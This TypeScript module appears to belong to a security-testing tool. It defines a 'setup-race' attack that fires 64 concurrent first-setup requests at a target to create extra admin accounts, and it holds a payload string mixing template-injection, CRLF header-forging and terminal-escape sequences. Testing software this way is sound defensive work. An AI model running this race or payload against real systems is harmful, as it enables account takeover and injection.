import { randomBytes } from "node:crypto";
import type { Answer } from "./answers.ts";
import { type Attack, LeftOut } from "./attack.ts";
import { isSuccess, send, type Target } from "./target.ts";

const RACERS = 64;

/** Everything that a page, a header, a log or a terminal could mistake for something else. */
export const STRANGE: string =
  "<b>\u0024{7*191}</b>{{7*191}}<%= 7*191 %>\"'\r\nX-Forged: yes\u001b[31m";

export const setupRace: Attack = {
  name: "setup-race",
  about: `${RACERS} first setups at the same moment`,
  meaning: "Somebody who comes at the same moment as you has an account of their own beside yours.",
  noun: "setups",
  verb: "made an account beside the first",
  needs: ["fresh"],

  async run(target, tally) {
    if (target.state === "configured") throw new LeftOut("there is an account already");
    const password = randomBytes(12).toString("hex");
    const racers = Array.from({ length: RACERS }, (_, at) => `attack ${at} ${STRANGE}`);
    const token = target.workshop?.setupToken ?? "";
    const answers = await Promise.all(
      racers.map(async (username) => {
        tally.tried();
        const form = { username, password, confirm: password, token };
        return { username, answer: await send(target, { path: "/setup", form }) };
      }),
    );
    const winners = answers.filter(({ answer }) => isSuccess(answer));
    for (const { username, answer } of winners) keep(target, username, password, answer);
    if (winners.length > 1) tally.gotThrough(`${winners.length} accounts were made at once`);
    if (winners.length === 0) throw new LeftOut("no setup was taken: a token may be asked for");
  },
};

function keep(target: Target, username: string, password: string, answer: Answer): void {
  const { session: token, cookies } = answer;
  if (token !== undefined) target.account ??= { username, password, token, cookies };
}
